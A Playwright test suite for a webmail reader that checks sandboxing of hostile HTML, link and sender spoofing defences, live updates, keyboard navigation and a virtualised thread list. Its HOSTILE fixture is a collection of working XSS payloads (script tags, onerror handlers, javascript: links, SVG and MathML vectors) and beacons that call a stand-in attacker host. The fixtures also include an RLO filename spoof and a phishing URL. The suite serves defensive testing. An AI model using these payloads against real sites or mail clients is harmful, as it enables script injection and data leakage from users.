// Reading mail: hostile HTML, live updates, two tabs, reply, keyboard, windowing.
import { base, bestOfFive, check, inject, newInbox, settled, watch } from './session.mjs';

const FRAMES = 120;
const FRAME_MS = 1000 / 60;

/** Asks for everything that HTML can: scripts, requests, forms, other pages. `%` is the host of the attacker. */
const HOSTILE = `<script>top.document.title='owned';fetch('//%/x')</script>
<img src="https://%/pixel.png" srcset="https://%/set.png 2x" onerror="top.document.title='owned'">
<picture><source srcset="https://%/source.png"><img src="data:,"></picture>
<video src="https://%/v.mp4" poster="https://%/poster.png" autoplay></video><audio src="https://%/a.mp3" autoplay></audio>
<form action="https://%/f" target=_top><input name=a value=stolen><button>Send</button></form>
<style>@import url(https://%/c.css);@font-face{font-family:x;src:url(https://%/font.woff)}
body{background:url(https://%/b.png);font-family:x}input[value^=s]{background:url(https://%/s.png)}
p:has(b){list-style:url(https://%/l.png);content:url(https://%/content.png)}</style>
<p style="background-image:url(https://%/inline.png);position:fixed;inset:0"><b>Styled</b></p>
<link rel=stylesheet href="https://%/l.css"><link rel=prefetch href="https://%/p"><link rel=dns-prefetch href="//%">
<a href="javascript:top.document.title='owned'">Script link</a>
<a href="data:text/html,<script>top.document.title='owned'</script>" target=_top>Data link</a>
<svg onload="top.document.title='owned'"><image href="https://%/i.svg"/><use href="https://%/u.svg#x"/><script>top.document.title='owned'</script>
<a href="javascript:top.document.title='owned'"><text y=20>SVG link</text></a>
<animate attributeName=href values="javascript:top.document.title='owned'"/><foreignObject><iframe src="https://%/fo"></iframe></foreignObject></svg>
<math><mtext><script>top.document.title='owned'</script></mtext><a href="javascript:top.document.title='owned'">Math</a></math>
<meta http-equiv=refresh content="0;url=https://%/m"><base href="https://%/">
<meta http-equiv="Content-Security-Policy" content="report-uri https://%/report">
<iframe src="https://%/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="https://%/o"></object><embed src="https://%/e"><portal src="https://%/portal"></portal>
<body onload="top.document.title='owned'" background="https://%/bg.png"><details ontoggle="top.document.title='owned'" open></details>
<p>Visible text</p>`;

/** Text in a header that is not ASCII (RFC 2047). */
const word = (text) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

export default {
  'hostile HTML runs nothing, sends nothing and leads nowhere': async ({ context, page, errors, server }) => {
    const foreign = [];
    const control = [];
    await context.route(/evil/, (route) => {
      const asked = route.request().url();
      (asked.includes('control-evil') ? control : foreign).push(asked);
      return route.fulfill({ body: '' });
    });
    const opened = [];
    context.on('page', (other) => opened.push(other.url()));

    // The same HTML in a page without protection: what is counted below can be counted.
    const bare = await context.newPage();
    await bare.goto(`${base}/v1/nowhere`);
    await bare.setContent(
      HOSTILE.replaceAll('%', 'control-evil.example').replace(/<meta http-equiv=refresh[^>]*>/, ''),
    );
    await bare.waitForFunction(() => document.title === 'owned');
    check(control.length > 8, `the bare page asked only for ${control.join(', ')}`);
    await bare.close();
    opened.length = 0;

    const box = await newInbox(server, 'hostile');
    const html = HOSTILE.replaceAll('%', 'evil.example');
    await inject(server, box.address, { subject: 'Hostile', html });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByRole('button', { name: 'HTML', exact: true }).click();
    const frame = page.frameLocator('iframe');
    await frame.getByText('Visible text').waitFor();
    for (const name of ['Script link', 'Data link', 'SVG link', 'Math', 'Send']) {
      const target = frame.getByText(name, { exact: true });
      if ((await target.count()) > 0) await target.first().dispatchEvent('click');
    }
    const element = page.locator('iframe');
    // Nothing is asked from the network for half a second: what wanted to leave would have left.
    await page.waitForLoadState('networkidle');
    check(!(await page.title()).includes('owned'), 'a script ran');
    const sandbox = await element.getAttribute('sandbox');
    check(sandbox === 'allow-popups allow-popups-to-escape-sandbox', `the sandbox is ${sandbox}`);
    const [, inner] = page.frames();
    check(inner.url().startsWith(`${base}/v1/messages/`), `the frame was led to ${inner.url()}`);
    check(page.url().startsWith(base), 'the page was led away');
    check(opened.length === 0, `opened ${opened.join(', ')}`);
    check(foreign.length === 0, `requests left: ${foreign.join(', ')}`);

    // Remote images load when asked for, and nothing but images.
    await page.getByRole('button', { name: 'Load remote images' }).click();
    await frame.getByText('Visible text').waitFor();
    await page.waitForLoadState('networkidle');
    const others = foreign.filter((url) => !/\.(png|svg)$/.test(url));
    check(others.length === 0, `requests left: ${others.join(', ')}`);
    check(!(await page.title()).includes('owned'), 'a script ran');

    // The frame's document protects itself when it is opened alone.
    foreign.length = 0;
    const source = await element.getAttribute('src');
    await page.goto(base + source.replace('remote=on', 'remote=off'));
    await page.waitForLoadState('networkidle');
    check(page.url().startsWith(base), 'the document led the page away');
    check(foreign.length === 0, `requests left: ${foreign.join(', ')}`);
    errors.length = 0; // The refusals themselves are logged.
  },

  'a link in HTML opens a tab that shows where it leads': async ({ context, page, server }) => {
    const box = await newInbox(server, 'links');
    const html =
      '<a href="https://good.example@evil.example/pay?a=1" title="https://good.example">https://good.example</a>';
    await inject(server, box.address, { subject: 'Links', html });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByRole('button', { name: 'HTML', exact: true }).click();
    const link = page.frameLocator('iframe').getByRole('link', { name: 'https://good.example' });
    const [tab] = await Promise.all([context.waitForEvent('page'), link.click()]);
    await tab.getByText('evil.example', { exact: true }).waitFor();
    await tab.getByText('https://good.example@evil.example/pay?a=1', { exact: true }).waitFor();
    await tab.getByText('The part before the @').waitFor();
    check((await tab.evaluate(() => window.opener)) === null, 'the tab knows its opener');
    const open = tab.getByRole('link', { name: 'Open the page' });
    check(
      (await open.getAttribute('href')) === 'https://good.example@evil.example/pay?a=1',
      'another target',
    );
    check(
      (await open.getAttribute('rel')).includes('noopener noreferrer'),
      'the page learns where it is from',
    );
    await link.waitFor(); // The mail is still there.
    for (const none of ['javascript:alert(1)', '/v1/account', '']) {
      await tab.goto(`${base}/leave#${encodeURIComponent(none)}`);
      await tab.reload();
      await tab.getByText('This link leads nowhere').waitFor();
    }
  },

  'the true address is the loudest, and nothing reorders text': async ({ page, server }) => {
    const box = await newInbox(server, 'true');
    await inject(server, box.address, {
      from: 'Good Boss <x@evil.example>',
      subject: word('Pay A\u202egnp.exe now'),
    });
    await page.goto(`${base}/inbox/${box.id}`);
    const row = page.locator('a.line', { hasText: 'x@evil.example' });
    await row.waitFor();
    check((await row.innerText()).startsWith('x@evil.example'), 'the row starts with the name');
    await row.getByText('Pay A[RLO]gnp.exe now').waitFor();
    await page.getByRole('heading', { name: 'Pay A[RLO]gnp.exe now' }).waitFor();
    const from = page.locator('.who').first();
    check((await from.locator('strong').innerText()) === 'x@evil.example', 'the address is not the loudest');
    check((await from.innerText()).includes('Good Boss'), await from.innerText());
    check((await from.innerText()).startsWith('x@evil.example'), 'the name comes first');
    await page.keyboard.press('r');
    const form = page.getByRole('form', { name: 'Send reply' });
    check((await form.locator('strong').innerText()) === 'x@evil.example', 'the reply shows the name');
    await page.goto(`${base}/compose?to=${encodeURIComponent('"boss@good.example" <x@evil.example>')}`);
    await page
      .locator('p', { hasText: 'Goes to' })
      .locator('strong', { hasText: 'x@evil.example' })
      .waitFor();
  },

  'hostile names and subjects are text': async ({ page, server }) => {
    const box = await newInbox(server, 'names');
    const evil = `<img src=x onerror="document.title='owned'">`;
    await inject(server, box.address, {
      from: `"${evil.replaceAll('"', "'")}" <mallory@evil.example>`,
      subject: evil,
      body: `${evil} javascript:alert(1) https://shop.example/a?b=1&c=2`,
    });
    for (const path of [`/inbox/${box.id}`, `/search?q=javascript`, '/contacts', '/events', '/']) {
      await page.goto(base + path);
      await settled(page);
      check(!(await page.title()).includes('owned'), `a script ran at ${path}`);
      check((await page.locator('img').count()) === 0, `there is an image at ${path}`);
    }
    await page.goto(`${base}/inbox/${box.id}`);
    const links = page.locator('.text a');
    await links.first().waitFor();
    const targets = await links.evaluateAll((all) => all.map((one) => one.href));
    check(targets.join() === 'https://shop.example/a?b=1&c=2', `links: ${targets.join()}`);
  },

  'a new mail shows within 300 ms in two tabs': async ({ context, page, server }) => {
    const box = await newInbox(server, 'live');
    await inject(server, box.address, { subject: 'First' });
    await inject(server, box.address, { subject: 'Second', from: 'Lee <lee@example.com>' });
    const other = watch(await context.newPage());
    for (const tab of [page, other]) {
      await tab.goto(`${base}/inbox/${box.id}`);
      await tab.getByText('Second').first().waitFor();
      await tab.locator('.stream.live').waitFor();
    }
    for (const tab of [page, other]) await settled(tab);
    let round = 0;
    await bestOfFive('from the 250 to the screen', 300, async () => {
      const subject = `Arrived live ${(round += 1)}`;
      for (const tab of [page, other]) {
        await tab.evaluate((text) => {
          window.seen = undefined;
          new MutationObserver((_, observer) => {
            if (!document.body.innerText.includes(text)) return;
            window.seen = Date.now();
            observer.disconnect();
          }).observe(document.body, { childList: true, subtree: true, characterData: true });
        }, subject);
      }
      await inject(server, box.address, { subject, from: `Mara ${round} <mara${round}@example.com>` });
      const accepted = Date.now();
      const seen = async (tab) => (await tab.waitForFunction(() => window.seen)).jsonValue();
      return Math.max(...(await Promise.all([page, other].map(seen)))) - accepted;
    });
  },

  'a broken connection resumes without losing mail': async ({ page, server }) => {
    const box = await newInbox(server, 'resume');
    await inject(server, box.address, { subject: 'Before one' });
    await inject(server, box.address, { subject: 'Before two', from: 'Lee <lee@example.com>' });
    // Remembers the sockets, so that one can be cut.
    await page.addInitScript(() => {
      const Original = window.WebSocket;
      window.sockets = [];
      window.WebSocket = class extends Original {
        constructor(...parts) {
          super(...parts);
          window.sockets.push(this);
        }
      };
    });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.locator('.stream.live').waitFor();
    await inject(server, box.address, { subject: 'Seen live', from: 'Ann <ann@example.com>' });
    await page.getByText('Seen live').first().waitFor();
    await page.evaluate(() => window.sockets.at(-1).close(4000));
    await page.locator('.stream.waiting').waitFor();
    await inject(server, box.address, { subject: 'Sent while away', from: 'Bob <bob@example.com>' });
    await page.getByText('Sent while away').first().waitFor({ timeout: 8000 });
    await page.locator('.stream.live').waitFor();
  },

  'replies seemed to go to an unproven Reply-To': async ({ page, server }) => {
    const box = await newInbox(server, 'unproven');
    await inject(server, box.address, {
      subject: 'Answer me',
      headers: ['Reply-To: "Dana Doe" <evil@y.example>'],
    });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByText('Answer me').first().click();
    await page
      .getByText('Replies go to the author, not to evil@y.example: no signature covers that Reply-To.')
      .waitFor();
    await page.keyboard.press('r');
    const form = page.getByRole('form', { name: 'Send reply' });
    const text = await form.innerText();
    check(text.includes('dana@example.com') && !text.includes('evil@y.example'), `the form is ${text}`);
  },

  'keyboard: j, k, r, label, search and go': async ({ page, server }) => {
    const box = await newInbox(server, 'keys');
    for (const name of ['One', 'Two', 'Three', 'Four']) {
      await inject(server, box.address, {
        subject: `Subject ${name}`,
        from: `${name} <${name.toLowerCase()}@example.com>`,
        body: `Text ${name}`,
      });
    }
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByText('Subject Four').first().waitFor();
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'Subject Four' }).waitFor();
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'Subject Three' }).waitFor();
    await page.keyboard.press('k');
    await page.getByRole('heading', { name: 'Subject Four' }).waitFor();
    await page.getByText('Text Four').first().waitFor();
    await page.keyboard.press('r');
    await page.keyboard.type('Thank you, this works.');
    await page.keyboard.press('Control+Enter');
    await page.getByText('Reply queued.').waitFor();
    await page.getByText('Thank you, this works.').first().waitFor();
    await page.keyboard.press('l');
    await page.keyboard.type('done-by-keyboard');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Remove label done-by-keyboard' }).waitFor();
    await page.getByRole('heading', { name: 'Subject Four' }).click();
    await page.keyboard.press('/');
    await page.waitForURL(/\/search/, { timeout: 5000 });
    await page.locator('input[type=search]:focus').waitFor();
    await page.keyboard.type('"Text Two"');
    await page.keyboard.press('Enter');
    await page.getByText('Subject Two').first().waitFor();
    await page.getByText('Subject Two').first().click();
    await page.getByRole('heading', { name: 'Subject Two' }).waitFor();
    await page.goBack();
    await page.keyboard.press('Escape');
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await page.keyboard.type('webh');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/webhooks/, { timeout: 4000 });
    await page.goBack();
  },

  'search: j and k go through several messages of a thread': async ({ page, server }) => {
    const box = await newInbox(server, 'hits');
    const [first, second] = ['one', 'two'].map((name) => `<${name}-${crypto.randomUUID()}@example.com>`);
    const word = `w${crypto.randomUUID().slice(0, 8)}`;
    const lead = 'Many words come before the one that is searched for in this text. ';
    await inject(server, box.address, { subject: 'Talk', id: first, body: `${lead}${word} first` });
    const headers = [`In-Reply-To: ${first}`, `References: ${first}`];
    await inject(server, box.address, {
      subject: 'Re: Talk',
      id: second,
      headers,
      body: `${lead}${word} second`,
    });
    await inject(server, box.address, { subject: 'Elsewhere', body: `${lead}${word} third` });
    await page.goto(`${base}/search?q=${word}`);
    await page.getByText('Elsewhere').first().waitFor();
    check((await page.locator('.list strong', { hasText: word }).count()) === 3, 'a match is not in view');
    const opened = [];
    for (const key of ['j', 'j', 'j', 'k']) {
      await page.keyboard.press(key);
      await settled(page);
      opened.push(new URL(page.url()).hash);
      check((await page.locator('.list [aria-current]').count()) === 1, 'not one hit is selected');
    }
    check(new Set(opened.slice(0, 3)).size === 3 && opened[3] === opened[1], `opened ${opened.join(', ')}`);
  },

  'a refused reply keeps what was typed': async ({ page, server }) => {
    const box = await newInbox(server, 'refused');
    await inject(server, box.address, { subject: 'Refuse me' });
    await server.call('POST', `/v1/inboxes/${box.id}/pause`, { reason: 'Test' });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByRole('heading', { name: 'Refuse me' }).waitFor();
    await page.keyboard.press('r');
    await page.keyboard.type('My long answer');
    await page.keyboard.press('Control+Enter');
    await page.getByRole('alert').first().waitFor();
    check(
      (await page.getByRole('textbox', { name: 'Reply' }).inputValue()) === 'My long answer',
      'the text is gone',
    );
    await page.reload();
    await page.getByRole('heading', { name: 'Refuse me' }).waitFor();
    await page.keyboard.press('r');
    check(
      (await page.getByRole('textbox', { name: 'Reply' }).inputValue()) === 'My long answer',
      'the text is gone after a reload',
    );
  },

  'a thread far down opens without loading the list again': async ({ page, server }) => {
    const box = await newInbox(server, 'deep');
    const thread = (index) => ({
      id: `00000000-0000-7000-8000-${String(index).padStart(12, '0')}`,
      inbox_id: box.id,
      subject: `Subject ${index}`,
      participants: [`Person ${index} <p${index}@example.com>`],
      message_count: 1,
      unread_count: 0,
      last_message_at: new Date(Date.now() - index * 60_000).toISOString(),
      created_at: new Date().toISOString(),
      labels: [],
      metadata: {},
    });
    let asked = 0;
    await page.route(/\/v1\/threads\?/, (route) => {
      asked += 1;
      const from = Number(new URL(route.request().url()).searchParams.get('cursor') ?? '0');
      const data = Array.from({ length: 100 }, (_, index) => thread(from + index));
      return route.fulfill({ json: { data, next_cursor: from < 900 ? String(from + 100) : null } });
    });
    await page.goto(`${base}/inbox/${box.id}`);
    await page.locator('.stream.live').waitFor();
    for (const row of [99, 199]) {
      await page.locator('.viewport').evaluate((list, row) => (list.scrollTop = row * 64), row);
      await page.getByText(`Subject ${row + 1}`, { exact: true }).waitFor();
    }
    await settled(page);
    asked = 0;
    const before = await page.locator('.viewport').evaluate((list) => list.scrollTop);
    await page.getByText('Subject 195', { exact: true }).click();
    await page.waitForURL(/000195$/);
    await settled(page);
    const after = await page.locator('.viewport').evaluate((list) => list.scrollTop);
    check(asked === 0, `the list was loaded ${asked} times`);
    check(before === after, `scrolled from ${before} to ${after}`);
    await page.locator('.viewport [aria-current]', { hasText: 'Subject 195' }).waitFor();
  },

  'a list of 50,000 threads is windowed and scrolls without long frames': async ({ page, server }) => {
    const box = await newInbox(server, 'many');
    const threads = Array.from({ length: 50_000 }, (_, index) => ({
      id: `thread-${index}`,
      inbox_id: box.id,
      subject: `Subject ${index}`,
      participants: [`Person ${index} <p${index}@example.com>`],
      message_count: 1 + (index % 4),
      last_message_at: new Date(Date.now() - index * 60_000).toISOString(),
      created_at: new Date().toISOString(),
      labels: index % 5 === 0 ? ['order'] : [],
      metadata: {},
    }));
    await page.route(/\/v1\/threads\?/, (route) =>
      route.fulfill({ json: { data: threads, next_cursor: null } }),
    );
    await page.goto(`${base}/inbox/${box.id}`);
    await page.getByText('Subject 3', { exact: true }).waitFor();
    // The processor's time of the main thread: other programs on the machine don't count.
    const devtools = await page.context().newCDPSession(page);
    await devtools.send('Performance.enable', { timeDomain: 'threadTicks' });
    const worked = async () => {
      const { metrics } = await devtools.send('Performance.getMetrics');
      return metrics.find((one) => one.name === 'TaskDuration').value * 1000;
    };
    const round = async () => {
      const before = await worked();
      const result = await page.evaluate(async (frames) => {
        const list = document.querySelector('.viewport');
        list.scrollTop = 0;
        for (let step = 0; step < frames; step += 1) {
          list.scrollTop += step < frames / 2 ? 400 : 26_000;
          await new Promise((next) => requestAnimationFrame(next));
        }
        return { rows: list.querySelectorAll('li').length, height: list.scrollHeight };
      }, FRAMES);
      return { ...result, each: ((await worked()) - before) / FRAMES };
    };
    // The shortest of three rounds: caches shared with other programs only add time.
    const rounds = [await round(), await round(), await round()];
    const result = rounds.reduce((least, one) => (one.each < least.each ? one : least));
    const { each } = result;
    console.log(`     ${result.rows} rows in the page, ${each.toFixed(1)} ms of work for a frame`);
    check(each < FRAME_MS, `${each.toFixed(1)} ms of work for a frame`);
    check(result.rows < 60, `${result.rows} rows in the page`);
    check(result.height === 50_000 * 64, 'the list has the wrong height');
  },
};
